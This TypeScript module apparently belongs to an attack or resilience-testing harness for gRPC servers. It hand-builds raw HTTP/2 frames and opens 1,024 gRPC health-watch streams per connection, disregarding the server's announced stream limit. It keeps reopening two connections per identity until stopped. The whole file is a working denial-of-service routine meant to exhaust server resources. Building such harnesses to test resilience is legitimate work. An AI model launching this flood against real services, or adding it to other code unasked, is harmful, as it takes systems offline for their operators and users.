// Calls that only wait, by a peer that keeps to no announcement of how many there may be: frames of HTTP/2 as it likes.
import { once } from "node:events";
import { aborted, doorOf, framed, lastMoment, METHODS, secureSocket } from "./session.ts";
import type { Attacker, Identity } from "./target.ts";

const WATCHES = 1_024;

const FrameType = { data: 0, headers: 1, settings: 4 } as const;
const END_STREAM = 1;
const END_HEADERS = 4;

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** POST of gRPC in HPACK, with nothing that a decoder remembers (RFC 7541, 6.2.2). */
function headerBlock(path: string): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat([
    Buffer.from([0x83, 0x86, 0x04]), // :method POST, :scheme http, :path
    text(path),
    Buffer.from([0x0f, 0x10]), // content-type
    text("application/grpc"),
    Buffer.from([0x00]),
    text("te"),
    text("trailers"),
  ]);
}

function watches(): Buffer {
  const headers = headerBlock(METHODS.watch);
  const message = framed(new Uint8Array());
  const calls = Array.from({ length: WATCHES }, (_, at) => [
    frame(FrameType.headers, END_HEADERS, 2 * at + 1, headers),
    frame(FrameType.data, END_STREAM, 2 * at + 1, message),
  ]);
  const preface = [Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(FrameType.settings, 0, 0, Buffer.alloc(0))];
  return Buffer.concat([...preface, ...calls.flat()]);
}

/** On two connections of each identity, which are made again when they are ended. */
export const healthWatches: Attacker = async (target, signal) => {
  const all = watches();
  let opened = 0;
  const work = async (identity: Identity) => {
    while (!signal.aborted) {
      const socket = await secureSocket(doorOf(target).socket, identity);
      if (!socket) continue;
      opened += 1;
      socket.resume().write(all);
      await Promise.race([once(socket, "close"), aborted(signal)]);
      socket.destroy();
    }
  };
  const twice = target.identities.flatMap((identity) => [work(identity), work(identity)]);
  await Promise.race([Promise.all(twice), aborted(lastMoment(target))]);
  return `${opened} connections`;
};
